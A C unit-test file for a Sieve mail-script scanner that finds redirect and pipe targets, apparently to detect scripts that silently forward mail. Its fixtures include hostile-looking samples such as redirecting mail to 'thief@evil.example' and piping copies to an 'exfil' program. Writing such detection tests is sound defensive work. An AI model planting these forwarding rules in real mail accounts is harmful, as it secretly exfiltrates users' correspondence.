/* SPDX-License-Identifier: Apache-2.0
 *
 * Where scripts send mail: found whatever stands around it, and not in comments, strings, or other words; whole, split at
 * every octet, ending at an unmapped page, and after a gap.
 */
#include "protocol/sieve_script.h"

#include <stdio.h>
#include <string.h>

#include "base/memory.h"
#include "support/check_main.h"
#include "support/guard.h"
#include "support/script.h"

static const struct {
	const char *script, *targets; /* one a line: "copy pipe address" */
} examples[] = {
	{ "redirect \"thief@evil.example\";", "thief@evil.example " },
	{ "require [\"copy\"];\r\nredirect :copy \"thief@evil.example\";\r\n", "copy:thief@evil.example " },
	{ "if header :contains \"Subject\" \"invoice\" {\r\n\tredirect :copy \"a@x.example\"; redirect \"b@x.example\";\r\n}\r\n",
	    "copy:a@x.example b@x.example " },
	{ "REDIRECT :COPY \"A@x.example\" ;", "copy:A@x.example " },
	{ "redirect [\"a@x.example\", \"b@x.example\"];", "a@x.example b@x.example " },
	{ "redirect text:\r\nlong@x.example\r\n.\r\n;", "long@x.example " },
	{ "redirect text: # why\r\n..dot@x.example\r\n.\r\n;keep;", ".dot@x.example " },
	{ "redirect \"q\\\"uoted@x.example\";", "q\"uoted@x.example " },
	{ "redirect :notify \"NEVER\" :ret \"HDRS\" \"a@x.example\";", "a@x.example " },
	{ "require \"vnd.dovecot.pipe\"; pipe :copy \"exfil\" [\"arg\"];", "copy:pipe:exfil " },
	{ "redirect:copy\"tight@x.example\";keep;", "copy:tight@x.example " },
	{ "redirect :copy :list \":addrbook:default\";", "copy::addrbook:default " },
	{ "require \"variables\"; set \"t\" \"b@x.example\"; redirect \"${t}\";", "${t} " },
	{ "include :personal \"more\"; if anyof (not exists \"X-A\", allof (true, size :over 100K)) { if true { redirect /* in */\"in@x.example\"; } }"
	  " elsif false { discard; } else { redirect text:\nother@x.example\n.\n; }", "in@x.example other@x.example " },
	{ "if header :is \"Subject\" \"redirect\" { redirect \"a@x.example\"; stop; }", "a@x.example " },
	{ "redirect # why\n\"a@x.example\" # redirect \"b@x.example\"\n;", "a@x.example " },
	{ "notify :importance \"1\" :message \"redirect\" \"mailto:a@x.example\";", "" },
	{ "vacation text:\r\nredirect \"c@x.example\";\r\n..\r\n.\r\n;", "" },
	{ "if body :text :contains \"redirect\" { keep; }", "" },
	{ "addheader \"X\" \"redirect\"; # redirect\n\"c@x.example\";", "" },
	{ "# redirect \"c@x.example\";\r\nkeep;", "" },
	{ "/* redirect \"c@x.example\"; ** / */ keep;", "" },
	{ "vacation \"please redirect \\\"c@x.example\\\"; thanks\";", "" },
	{ "fileinto \"redirect\"; keep; stop;", "" },
	{ "redirected \"c@x.example\";", "" },
	{ "redirect; \"c@x.example\";", "" },
	{ "discard;", "" },
	{ "", "" },
	{ "redirect \"unfinished@x.exam", "" },
};
#define EXAMPLES (sizeof(examples) / sizeof(examples[0]))

static void
read_targets(const struct sieve_script *s, char out[1024])
{
	struct script_report r = { 0 };
	struct arena arena;
	size_t n = 0;

	arena_init(&arena);
	sieve_script_report(s, &r, &arena);
	out[0] = '\0';
	for (size_t i = 0; i < r.target_count; i++)
		n += (size_t)snprintf(out + n, 1024 - n, "%s%s%.*s ", r.targets[i].copy ? "copy:" : "", r.targets[i].pipe ? "pipe:" : "",
		    (int)r.targets[i].address_text.len, (const char *)r.targets[i].address_text.at);
	arena_clear(&arena);
}

START_TEST(every_script_split_anywhere)
{
	const char *text = examples[_i].script;
	struct guard g = guard_new(bytes_str(text));
	char got[1024];

	for (size_t cut = 0; cut <= strlen(text); cut++) {
		struct sieve_script *s = sieve_script_new(&script_limits);

		ck_assert_ptr_nonnull(s);
		sieve_script_data(s, bytes_first(g.bytes, cut));
		sieve_script_data(s, bytes_skip(g.bytes, cut));
		read_targets(s, got);
		ck_assert_msg(strcmp(got, examples[_i].targets) == 0, "%s cut at %zu: %s", text, cut, got);
		sieve_script_free(s);
	}
	guard_free(&g);
}
END_TEST

START_TEST(after_a_gap_the_next_line_counts)
{
	static const char text[] = "redirect \"a@x.example\";\r\nredirect \"b@x.example\";\r\n";
	struct script_report r = { 0 };
	struct arena arena;
	char got[1024];

	for (size_t gap = 0; gap < 24; gap++) {
		struct sieve_script *s = sieve_script_new(&script_limits);

		sieve_script_data(s, bytes_of(text, gap));
		sieve_script_gap(s);
		sieve_script_data(s, bytes_of(text + gap + 1, sizeof(text) - 2 - gap));
		read_targets(s, got);
		ck_assert_msg(strstr(got, "b@x.example ") != NULL, "gap at %zu: %s", gap, got);
		arena_init(&arena);
		sieve_script_report(s, &r, &arena);
		ck_assert(!r.complete);
		arena_clear(&arena);
		sieve_script_free(s);
	}
}
END_TEST

START_TEST(ceilings)
{
	struct sieve_script *s = sieve_script_new(&script_limits);
	struct script_report r = { 0 };
	struct arena arena;
	char text[64];

	for (int i = 0; i < 500; i++) {
		int n = snprintf(text, sizeof(text), "redirect \"user%d@x.example\";\n", i);

		sieve_script_data(s, bytes_of(text, (size_t)n));
	}
	sieve_script_data(s, BYTES("redirect \""));
	for (int i = 0; i < 100000; i++)
		sieve_script_data(s, BYTES("long"));
	sieve_script_data(s, BYTES("\";"));
	arena_init(&arena);
	sieve_script_report(s, &r, &arena);
	ck_assert_uint_eq(r.target_count, script_limits.recipients);
	ck_assert_uint_eq(r.targets_dropped, 501 - script_limits.recipients);
	arena_clear(&arena);
	sieve_script_free(s);
}
END_TEST

START_TEST(memory_runs_out_anywhere)
{
	for (long n = 0; n < 12; n++) {
		struct sieve_script *s;
		char got[1024];

		memory_fail_after(n);
		s = sieve_script_new(&script_limits);
		if (s != NULL) {
			sieve_script_data(s, BYTES("redirect [\"a@x\", \"b@x\", \"c@x\", \"d@x\", \"e@x\"];"));
			read_targets(s, got);
		}
		memory_fail_after(-1);
		sieve_script_free(s);
	}
}
END_TEST

static void
add_tests(TCase *tests)
{
	tcase_add_loop_test(tests, every_script_split_anywhere, 0, (int)EXAMPLES);
	tcase_add_test(tests, after_a_gap_the_next_line_counts);
	tcase_add_test(tests, ceilings);
	tcase_add_test(tests, memory_runs_out_anywhere);
}

CHECK_MAIN("protocol/sieve_script", add_tests)
